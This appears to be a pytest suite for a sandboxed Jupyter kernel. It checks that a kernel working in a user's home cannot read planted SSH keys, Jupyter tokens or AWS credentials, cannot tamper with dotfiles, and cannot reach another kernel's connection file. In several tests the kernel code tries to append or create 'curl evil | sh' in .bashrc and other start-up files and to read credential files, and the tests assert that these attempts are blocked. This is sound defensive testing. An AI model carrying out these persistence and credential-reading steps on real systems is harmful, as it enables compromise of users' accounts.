"""A workspace that is a home directory: the kernel works on the user's notebooks and
sees none of their secrets (Jupyter's runtime files with the server's token, the
gateway's signing secret, ~/.ssh, shell start-up files), against each backend.

Every secret is world-readable and every dotfile world-writable here, so only the
sandbox's masks stand between the kernel and them.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass

import pytest
import pytest_asyncio
from jupyter_client import AsyncKernelManager
from kernelrun import run_code
from optional import require
from traitlets.config import Config

pytestmark = [pytest.mark.asyncio, pytest.mark.xdist_group("sandbox")]

SECRET = "secret-" + os.urandom(6).hex()
BASHRC = "# the user's own .bashrc\n"


@dataclass
class Home:
    path: str
    secrets: dict[str, str]  # path -> content no kernel may read
    bashrc: str
    notebook: str


def make_home(path: str) -> Home:
    """A home directory as a Jupyter user has it."""

    def put(rel: str, content: str, mode: int = 0o644) -> str:
        full = os.path.join(path, rel)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "w", encoding="utf-8") as f:
            f.write(content)
        os.chmod(full, mode)
        return full

    secrets = {
        put(".ssh/id_rsa", f"-----BEGIN KEY----- {SECRET}-ssh\n"): f"{SECRET}-ssh",
        put(
            ".local/share/jupyter/runtime/jpserver-4242.json",
            json.dumps({"token": f"{SECRET}-token", "port": 8888}),
        ): f"{SECRET}-token",
        put(".local/share/jupyter/aiide/jwt_secret", f"{SECRET}-jwt"): f"{SECRET}-jwt",
        put(".jupyter/jupyter_server_config.py", f"c.X.y = '{SECRET}-config'"): f"{SECRET}-config",
        put(".aws/credentials", f"aws_secret_access_key = {SECRET}-aws"): f"{SECRET}-aws",
    }
    bashrc = put(".bashrc", BASHRC, 0o666)
    notebook = put("analysis.ipynb", '{"cells": []}', 0o666)
    for d in (".ssh", ".local", ".local/share", ".local/share/jupyter", ".jupyter", ".aws"):
        os.chmod(os.path.join(path, d), 0o755)
    os.chmod(os.path.join(path, ".local/share/jupyter/runtime"), 0o755)
    os.chmod(os.path.join(path, ".local/share/jupyter/aiide"), 0o755)
    return Home(path, secrets, bashrc, notebook)


def point_jupyter_at(monkeypatch: pytest.MonkeyPatch, home: str) -> None:
    monkeypatch.setenv("HOME", home)
    for var in (
        "JUPYTER_CONFIG_DIR",
        "JUPYTER_DATA_DIR",
        "JUPYTER_RUNTIME_DIR",
        "XDG_DATA_HOME",
        "XDG_CONFIG_HOME",
        "XDG_RUNTIME_DIR",
    ):
        monkeypatch.delenv(var, raising=False)


@pytest.fixture
def home(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Home:
    path = str(tmp_path_factory.mktemp("home"))
    os.chmod(path, 0o755)
    point_jupyter_at(monkeypatch, path)
    return make_home(path)


def home_config(backend: str, home: Home) -> Config:
    c = Config()
    c.SandboxPolicy.backend = backend
    c.SandboxPolicy.workspace_root = home.path  # the server was started in ~
    c.SandboxPolicy.memory_limit = "512M"
    c.SandboxPolicy.tmp_size = "64M"
    return c


@pytest_asyncio.fixture
async def home_km(backend: str, home: Home) -> AsyncIterator[AsyncKernelManager]:
    km = AsyncKernelManager(kernel_name="aiide-python", config=home_config(backend, home))
    await km.start_kernel(cwd=home.path)
    try:
        yield km
    finally:
        if km.has_kernel:
            await km.shutdown_kernel(now=True)


READ_ALL = """
import json
out = {}
for p in %r:
    try:
        with open(p) as f:
            out[p] = f.read()
    except OSError as e:
        out[p] = 'blocked ' + type(e).__name__
print(json.dumps(out))
"""


async def test_home_workspace_hides_ssh_keys_and_jupyters_files(
    home_km: AsyncKernelManager, home: Home
) -> None:
    r = await run_code(home_km, READ_ALL % (list(home.secrets),))
    assert r.status == "ok", r
    seen = json.loads(r.stdout)
    for path, secret in home.secrets.items():
        assert secret not in seen[path], f"the kernel read {path}"
    assert SECRET not in r.stdout


async def test_home_workspace_dotfiles_cannot_be_changed(
    home_km: AsyncKernelManager, home: Home
) -> None:
    code = f"""
    import os
    for attempt in ('append', 'replace', 'remove'):
        try:
            if attempt == 'append':
                with open({home.bashrc!r}, 'a') as f:
                    f.write('curl evil | sh\\n')
            elif attempt == 'replace':
                with open({home.bashrc!r} + '.new', 'w') as f:
                    f.write('curl evil | sh\\n')
                os.replace({home.bashrc!r} + '.new', {home.bashrc!r})
            else:
                os.unlink({home.bashrc!r})
            print(attempt, 'done')
        except OSError as e:
            print(attempt, 'blocked', type(e).__name__)
    """
    r = await run_code(home_km, textwrap.dedent(code))
    assert r.status == "ok", r
    assert "done" not in r.stdout, r.stdout
    with open(home.bashrc, encoding="utf-8") as f:
        assert f.read() == BASHRC


@pytest.fixture
def projects(home: Home) -> str:
    """A non-hidden folder of the home, there before the kernel starts."""
    path = os.path.join(home.path, "projects")
    os.mkdir(path)
    os.chmod(path, 0o777)
    return path


async def test_home_workspace_notebooks_are_readable_and_writable(
    projects: str, home_km: AsyncKernelManager, home: Home
) -> None:
    code = f"""
    import errno, os
    print(open({home.notebook!r}).read())
    with open({home.notebook!r}, 'w') as f:
        f.write('{{"cells": [1]}}')
    with open('projects/results.csv', 'w') as f:
        f.write('a,b\\n1,2\\n')
    os.makedirs('projects/run1/plots')
    try:
        open('results.csv', 'w')
    except OSError as e:
        print('TOP', errno.errorcode[e.errno])
    """
    r = await run_code(home_km, textwrap.dedent(code))
    assert r.status == "ok", r
    assert r.stdout.splitlines()[0] == '{"cells": []}'
    # A new name at the top of the home is refused like any other (documented).
    assert "TOP EROFS" in r.stdout, r.stdout
    assert not os.path.exists(os.path.join(home.path, "results.csv"))
    with open(home.notebook, encoding="utf-8") as f:
        assert f.read() == '{"cells": [1]}'
    with open(os.path.join(projects, "results.csv"), encoding="utf-8") as f:
        assert f.read() == "a,b\n1,2\n"
    assert os.path.isdir(os.path.join(projects, "run1", "plots"))
    # Uncaught, the error says why and what to do.
    r = await run_code(home_km, "open('results.csv', 'w')")
    assert r.status == "error", r
    assert "cannot create new files or folders at the top of your home" in r.stdout, r


#: Start-up files a login or the next Python would run outside any sandbox.
STARTUP_FILES = [
    ".bash_profile",
    ".profile",
    ".zshenv",
    ".pythonrc",
    ".config/autostart/x.desktop",
    ".ipython/profile_default/startup/x.py",
    f".local/lib/python3.{sys.version_info.minor}/site-packages/usercustomize.py",
]

CREATE_STARTUP_FILES = """
import os
home = %r
for rel in %r:
    path = os.path.join(home, rel)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as f:
            f.write('curl evil | sh\\n')
        print('CREATED', rel)
    except OSError as e:
        print('blocked', rel, type(e).__name__)
nb, folder = os.path.join(home, 'analysis.ipynb'), os.path.join(home, 'projects')
for name, make in (
    ('.bash_login', lambda p: os.symlink(nb, p)),
    ('.zprofile', lambda p: os.link(nb, p)),
    ('.xprofile', lambda p: os.mkfifo(p)),
    ('.profile', lambda p: os.rename(nb, p)),
    ('.config', lambda p: os.rename(folder, p)),
):
    try:
        make(os.path.join(home, name))
        print('CREATED', name)
    except OSError as e:
        print('blocked', name, type(e).__name__)
"""


def _top_level(path: str) -> list[str]:
    return sorted(os.listdir(path))


async def test_home_workspace_no_new_dotfile_can_appear(
    projects: str, home_km: AsyncKernelManager, home: Home
) -> None:
    """The home is read-only at its top level (its existing entries are bound read-write
    over it): no start-up file that did not exist can be created, by any route."""
    before = _top_level(home.path)
    code = CREATE_STARTUP_FILES % (home.path, STARTUP_FILES)
    r = await run_code(home_km, code)
    assert r.status == "ok", r
    assert "CREATED" not in r.stdout, r.stdout
    assert _top_level(home.path) == before
    for rel in [*STARTUP_FILES, ".bash_login", ".zprofile", ".xprofile"]:
        assert not os.path.lexists(os.path.join(home.path, rel)), rel
    assert os.path.isfile(home.notebook) and os.path.isdir(projects)


async def test_a_subfolder_workspace_of_the_home_is_not_sealed(
    backend: str, home: Home, projects: str
) -> None:
    """Only a home is sealed: a kernel whose workspace is a folder of the home creates
    files, folders and dot-files at its top as before."""
    c = home_config(backend, home)
    c.SandboxPolicy.workspace_root = projects
    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
    await km.start_kernel(cwd=projects)
    try:
        code = """
        import os
        open('out.csv', 'w').write('a\\n')
        os.makedirs('data/raw')
        open('.env.example', 'w').write('X=1\\n')
        print('OK')
        """
        r = await run_code(km, textwrap.dedent(code))
        assert r.status == "ok" and "OK" in r.stdout, r
    finally:
        await km.shutdown_kernel(now=True)
    assert sorted(os.listdir(projects)) == [".env.example", "data", "out.csv"]


async def test_a_workspace_containing_the_home_seals_the_home(
    backend: str, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server started in /home-like folder: the user's home inside it is sealed, the
    folder itself (not a home) stays as writable as before."""
    users = str(tmp_path_factory.mktemp("users"))
    os.chmod(users, 0o777)
    path = os.path.join(users, "alice")
    os.mkdir(path, 0o755)
    point_jupyter_at(monkeypatch, path)
    home = make_home(path)
    os.mkdir(os.path.join(path, "projects"))
    os.chmod(os.path.join(path, "projects"), 0o777)
    c = home_config(backend, home)
    c.SandboxPolicy.workspace_root = users
    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
    await km.start_kernel(cwd=users)
    try:
        before = _top_level(path)
        r = await run_code(km, CREATE_STARTUP_FILES % (path, STARTUP_FILES))
        assert r.status == "ok", r
        assert "CREATED" not in r.stdout, r.stdout
        assert _top_level(path) == before
        r = await run_code(km, "open('shared.txt', 'w').write('x'); print('OK')")
        assert "OK" in r.stdout, r
        r = await run_code(km, f"open({home.notebook!r}, 'a').write(' '); print('OK')")
        assert "OK" in r.stdout, r
    finally:
        await km.shutdown_kernel(now=True)
    assert os.path.isfile(os.path.join(users, "shared.txt"))


async def test_masked_paths_hide_a_configured_path_and_unmasked_entries_show(
    backend: str, home: Home
) -> None:
    private = os.path.join(home.path, "private")
    os.mkdir(private, 0o755)
    with open(os.path.join(private, "notes.txt"), "w") as f:
        f.write(f"{SECRET}-private")
    os.chmod(os.path.join(private, "notes.txt"), 0o644)
    cache = os.path.join(home.path, ".cache")
    os.mkdir(cache, 0o755)
    with open(os.path.join(cache, "model.bin"), "w") as f:
        f.write("weights")
    os.chmod(os.path.join(cache, "model.bin"), 0o644)
    c = home_config(backend, home)
    c.SandboxPolicy.masked_paths = [private]
    c.SandboxPolicy.unmasked_home_entries = [".cache"]
    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
    await km.start_kernel(cwd=home.path)
    try:
        paths = [os.path.join(private, "notes.txt"), os.path.join(cache, "model.bin")]
        r = await run_code(km, READ_ALL % (paths,))
        assert r.status == "ok", r
        seen = json.loads(r.stdout)
        assert SECRET not in seen[paths[0]]
        assert seen[paths[1]] == "weights"
    finally:
        await km.shutdown_kernel(now=True)


async def test_a_workspace_inside_jupyters_runtime_dir_is_refused(backend: str, home: Home) -> None:
    runtime = os.path.join(home.path, ".local/share/jupyter/runtime")
    km = AsyncKernelManager(kernel_name="aiide-python", config=home_config(backend, home))
    with pytest.raises(RuntimeError, match="never shown to sandboxed kernels"):
        await km.start_kernel(cwd=runtime)
    assert not km.has_kernel


async def test_a_pooled_kernel_gets_the_same_sandbox_as_a_cold_start(
    backend: str, home: Home
) -> None:
    """The warm pool starts kernels through the same recipe: masks and the no-network
    %pip message included (the pool used to assemble launches on its own)."""
    from aiide_kernel.policy import SandboxPolicy
    from aiide_kernel.pool import KernelPool
    from aiide_kernel.provisioner import SandboxProvisioner
    from aiide_kernel.rundir import sandbox_identity

    c = home_config(backend, home)
    c.KernelPool.size = 1
    KernelPool.clear_instance()
    pool = KernelPool.instance(config=c)
    try:
        policy = SandboxPolicy(config=c)
        uid, gid = sandbox_identity(SandboxProvisioner(config=c).sandbox_uid)
        argv = [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"]
        key = pool.prewarm(argv, policy, home.path, uid, gid)
        await pool.wait_filled(key, timeout=90)
        pooled_pid = pool._ready[key][0].kernel.pid
        km = AsyncKernelManager(kernel_name="aiide-python", config=c)
        await km.start_kernel(cwd=home.path)
        try:
            if backend == "bwrap":
                assert km.provisioner.pid == pooled_pid  # it came from the pool
            r = await run_code(km, READ_ALL % (list(home.secrets),))
            assert SECRET not in r.stdout, r.stdout
            r = await run_code(km, "%pip install nothing-at-all")
            assert "without network access" in r.stdout, r
        finally:
            await km.shutdown_kernel(now=True)
    finally:
        await pool.shutdown()
        KernelPool.clear_instance()


# -- an ordinary user --------------------------------------------------------------------

ORDINARY_USER_SCRIPT = """
import asyncio, json, os, sys
from jupyter_client import AsyncKernelManager
from traitlets.config import Config

async def main():
    c = Config()
    c.SandboxPolicy.backend = "bwrap"
    c.SandboxPolicy.workspace_root = os.environ["HOME"]
    c.SandboxPolicy.allow_unlimited = True  # no cgroup of its own for this user
    c.SandboxPolicy.extra_ro_mounts = [os.environ["AIIDE_TEST_SITE"]]  # the .pth's packages
    km = AsyncKernelManager(kernel_name="aiide-python", config=c)
    await km.start_kernel(cwd=os.environ["HOME"])
    kc = km.client()
    kc.start_channels()
    out = []
    try:
        await kc.wait_for_ready(timeout=60)
        def hook(msg):
            if msg["header"]["msg_type"] == "stream":
                out.append(msg["content"]["text"])
        await kc.execute_interactive(sys.argv[1], timeout=60, output_hook=hook)
    finally:
        kc.stop_channels()
        await km.shutdown_kernel(now=True)
    print("KERNEL:" + "".join(out))

asyncio.run(main())
"""


@pytest.fixture
def ordinary_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Home]:
    """A home owned by an ordinary uid, reachable by it (not under root's pytest tmp)."""
    if os.geteuid() != 0:  # handing files to another uid needs root
        pytest.skip("the other tests of this file already run as an ordinary user")
    path = tempfile.mkdtemp(prefix="aiide-home-", dir="/tmp")
    try:
        home = make_home(path)
        for root, dirs, files in os.walk(path):
            for name in [*dirs, *files]:
                os.chown(os.path.join(root, name), 65534, 65534)
        os.chown(path, 65534, 65534)
        os.chmod(path, 0o755)
        yield home
    finally:
        shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def ordinary_python() -> Iterator[str]:
    """A Python the ordinary uid can run with this environment's packages (the test
    environment's own interpreter may live under /root, which that uid cannot reach)."""
    system = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
    if not os.path.exists(system):
        pytest.skip(f"needs {system} for an environment an ordinary uid can use")
    path = tempfile.mkdtemp(prefix="aiide-py-", dir="/tmp")
    try:
        subprocess.run([system, "-m", "venv", "--without-pip", path], check=True, timeout=60)
        site_dir = next(p for p in sys.path if p.endswith("site-packages"))
        version = f"python{sys.version_info.major}.{sys.version_info.minor}"
        with open(os.path.join(path, "lib", version, "site-packages", "aiide.pth"), "w") as f:
            f.write(f"import site; site.addsitedir({site_dir!r})\n")
        for root, dirs, _ in os.walk(path):
            for d in dirs:
                os.chmod(os.path.join(root, d), 0o755)
        os.chmod(path, 0o755)
        yield os.path.join(path, "bin", "python")
    finally:
        shutil.rmtree(path, ignore_errors=True)


@pytest.mark.filterwarnings("ignore::pytest.PytestWarning")
def test_an_ordinary_user_with_a_home_workspace_gets_the_same_masks(
    ordinary_home: Home, ordinary_python: str
) -> None:
    """The server as an ordinary user (uid 65534), started in its own home, bwrap."""
    require("bubblewrap", shutil.which("bwrap") is not None, "bwrap is not installed")
    require("util-linux", shutil.which("setpriv") is not None, "setpriv is not installed")
    home = ordinary_home
    code = textwrap.dedent(
        READ_ALL % (list(home.secrets),)
        + f"""
try:
    open({home.bashrc!r}, 'a').write('curl evil | sh')
    print('APPEND done')
except OSError as e:
    print('APPEND blocked', type(e).__name__)
try:
    open({os.path.join(home.path, ".bash_profile")!r}, 'w').write('curl evil | sh')
    print('CREATE done')
except OSError as e:
    print('CREATE blocked', type(e).__name__)
try:
    open({home.notebook!r}, 'w').write('{{"cells": [2]}}')
except OSError as e:
    print('NOTEBOOK', e)
"""
    )
    env = {
        "HOME": home.path,
        "PATH": os.path.dirname(ordinary_python) + ":/usr/bin:/bin",
        "LANG": "C.UTF-8",
        "JUPYTER_PATH": os.path.join(sys.prefix, "share", "jupyter"),  # the kernelspec
        "AIIDE_TEST_SITE": next(p for p in sys.path if p.endswith("site-packages")),
    }
    r = subprocess.run(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--",
            ordinary_python,
            "-c",
            ORDINARY_USER_SCRIPT,
            code,
        ],
        env=env,
        cwd=home.path,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert r.returncode == 0, r.stderr[-3000:]
    kernel_out = r.stdout.split("KERNEL:", 1)[1]
    assert SECRET not in kernel_out, kernel_out
    assert "APPEND blocked" in kernel_out, kernel_out
    assert "CREATE blocked" in kernel_out, kernel_out
    assert not os.path.lexists(os.path.join(home.path, ".bash_profile"))
    with open(home.bashrc, encoding="utf-8") as f:
        assert f.read() == BASHRC
    with open(home.notebook, encoding="utf-8") as f:
        assert f.read() == '{"cells": [2]}', kernel_out


@pytest.fixture
def tmp_like() -> Iterator[str]:
    """A directory like /tmp (mode 1777), reachable by the sandbox uid."""
    path = tempfile.mkdtemp(prefix="aiide-tmplike-", dir="/tmp")
    os.chmod(path, 0o1777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def test_a_kernel_cannot_reach_another_kernels_run_dir_in_its_workspace(
    backend: str, tmp_like: str
) -> None:
    """A server started in /tmp: the run root (sockets, connection files with their HMAC
    keys) is inside every kernel's workspace."""
    ws = tmp_like
    c = Config()
    c.SandboxPolicy.backend = backend
    c.SandboxPolicy.workspace_root = ws
    c.SandboxPolicy.memory_limit = "512M"
    c.SandboxPolicy.tmp_size = "64M"
    c.SandboxProvisioner.run_root = ws
    victim = AsyncKernelManager(kernel_name="aiide-python", config=c)
    await victim.start_kernel(cwd=ws)
    attacker = AsyncKernelManager(kernel_name="aiide-python", config=c)
    await attacker.start_kernel(cwd=ws)
    try:
        target = victim.connection_file
        code = f"""
        import os
        try:
            print('READ', open({target!r}).read())
        except OSError as e:
            print('blocked', type(e).__name__)
        own = {attacker.connection_file!r}
        for root, dirs, files in os.walk('.'):
            for name in files:
                found = os.path.abspath(os.path.join(root, name))
                if name == 'connection.json' and found != own:
                    print('FOUND', found)
        """
        r = await run_code(attacker, textwrap.dedent(code))
        assert r.status == "ok", r
        assert "READ" not in r.stdout and "FOUND" not in r.stdout, r.stdout
        r = await run_code(victim, "print(1 + 1)")  # the victim still works
        assert r.stdout.strip() == "2"
    finally:
        await attacker.shutdown_kernel(now=True)
        await victim.shutdown_kernel(now=True)
